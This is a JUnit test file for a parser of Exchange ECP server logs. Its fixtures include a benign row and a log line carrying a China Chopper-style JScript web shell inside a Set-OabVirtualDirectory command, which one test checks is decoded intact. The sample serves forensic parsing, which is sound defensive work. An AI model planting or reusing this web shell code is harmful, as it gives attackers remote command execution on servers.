package org.hygiene.lessons.logs.formats;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.file.Path;
import java.util.LinkedHashMap;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class EcpServerLogFormatTest {
    static final String PATH =
            "Program Files/Microsoft/Exchange"
                    + " Server/V15/Logging/ECP/Server/ECPServer20210303-1.LOG";
    static final String HEADER =
            """
            #Software: Microsoft Exchange Server
            #Version: 15.0.0.0
            #Log-type: ECP Server Log
            #Date: 2021-03-03T00:02:33.938Z
            #Fields: TimeStamp,ServerName,EventId,EventData
            """;
    static final String BENIGN =
            "2021-03-03T00:02:33.966Z,EXCH01,ECP.Request,S:TIME=13;S:SID=S-1-5-21-1;S:CMD=Get-InboxRule;S:REQID=;S:URL=/ecp/RulesEditor/InboxRules.svc/GetList?msExchEcpCanary=C;S:REFERRER=;S:EX=;S:ACTID=a;S:RS=0;S:BLD=15.1.2106.2;S:TNAME=<null>;S:TID=;S:USID=u;S:EDOID=;S:ACID=\n";
    static final String CHOPPER =
            "2021-03-03T06:49:53.772Z,EXCH01,ECP.Request,\"S:TIME=1327;'S:CMD=Set-OabVirtualDirectory.ExternalUrl=''http://f/<script"
                + " language=\"\"JScript\"\" runat=\"\"server\"\">function"
                + " Page_Load(){eval(Request[\"\"k\"\"],\"\"unsafe\"\");}</script>''"
                + ".Identity=''982d''';S:URL=/ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory;'S:EX=Oops;"
                + " it''s broken';S:RS=0\"\n";

    @TempDir Path dir;

    @Test
    void exposesEventDataPairsAsColumns() throws IOException {
        Rows.Result r =
                Rows.read(
                        new EcpServerLogFormat(),
                        dir,
                        PATH,
                        Rows.concat(Rows.BOM, Rows.crlf(HEADER + BENIGN)));
        var row = r.row(0);
        assertThat(row.get("CMD")).isEqualTo("Get-InboxRule");
        assertThat(row.get("TIME")).isEqualTo(13L);
        assertThat(row.get("URL"))
                .isEqualTo("/ecp/RulesEditor/InboxRules.svc/GetList?msExchEcpCanary=C");
        assertThat(row.get("EX")).isEqualTo("");
        assertThat(row.get("TNAME")).isEqualTo("<null>");
        assertThat(row.get("ServerName")).isEqualTo("EXCH01");
    }

    @Test
    void undoesBothQuotingLevelsOfTheChinaChopperLine() throws IOException {
        Rows.Result r = Rows.read(new EcpServerLogFormat(), dir, PATH, Rows.crlf(HEADER + CHOPPER));
        var row = r.row(0);
        assertThat(row.get("CMD"))
                .isEqualTo(
                        "Set-OabVirtualDirectory.ExternalUrl='http://f/<script language=\"JScript\""
                                + " runat=\"server\">function Page_Load(){eval(Request[\"k\"],"
                                + "\"unsafe\");}</script>'.Identity='982d'");
        assertThat(row.get("EX")).isEqualTo("Oops; it's broken");
        assertThat(row.get("EventData")).asString().contains("''http://f/<script");
    }

    @Test
    void rejectsGarbageAndTruncatedLines() throws IOException {
        Rows.Result r =
                Rows.read(
                        new EcpServerLogFormat(),
                        dir,
                        PATH,
                        Rows.crlf(
                                HEADER
                                        + "garbage\nnot-a-time,EXCH01,ECP.Request,S:CMD=x\n"
                                        + BENIGN
                                        + CHOPPER.substring(0, 90)));
        assertThat(r.rows()).hasSize(1);
        assertThat(r.rejected()).isEqualTo(3);
    }

    @Test
    void splitsPairsAndIgnoresSegmentsWithoutAKey() {
        Map<String, String> pairs = new LinkedHashMap<>();
        EventDataPairs.forEach("S:A=1;;junk;I32:B=2;'S:C=x;y';=z;S:D=a=b", pairs::put);
        assertThat(pairs)
                .containsExactly(
                        Map.entry("A", "1"),
                        Map.entry("B", "2"),
                        Map.entry("C", "x;y"),
                        Map.entry("D", "a=b"));
    }
}
